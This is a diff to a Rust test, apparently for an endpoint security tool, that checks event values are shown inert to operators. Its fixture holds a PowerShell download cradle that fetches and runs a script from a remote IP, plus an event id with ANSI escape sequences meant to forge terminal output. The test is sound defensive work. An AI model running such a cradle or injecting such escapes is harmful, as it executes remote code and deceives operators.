@@ -210,11 +210,12 @@ fn a_command_line_cannot_forge_a_line_in_syslog_webhook_or_redis_notifications()
 #[test]
 fn operator_commands_show_event_values_inert() {
     let dir = scratch_content();
-    let events = office_event(
-        "e-3\u{1b}[2K\r\u{1b}[32mall clear",
-        "ws-1",
-        "cmd.exe /c whoami",
-    );
+    // A download cradle: its kill is high-risk, so it waits in the approvals queue.
+    let events = json!({"type": "process_create", "timestamp": "2025-11-03T14:30:10Z",
+        "id": "e-3\u{1b}[2K\r\u{1b}[32mall clear", "host": "ws-1", "pid": 4242,
+        "name": "powershell.exe", "parent_name": "explorer.exe",
+        "cmdline": "powershell.exe -nop -c \"IEX (New-Object Net.WebClient).DownloadString('http://185.12.33.4/a.ps1')\""})
+    .to_string();
     std::fs::write(dir.path().join("events.jsonl"), events + "\n").expect("events");
     std::fs::write(
         dir.path().join("palisade.yaml"),
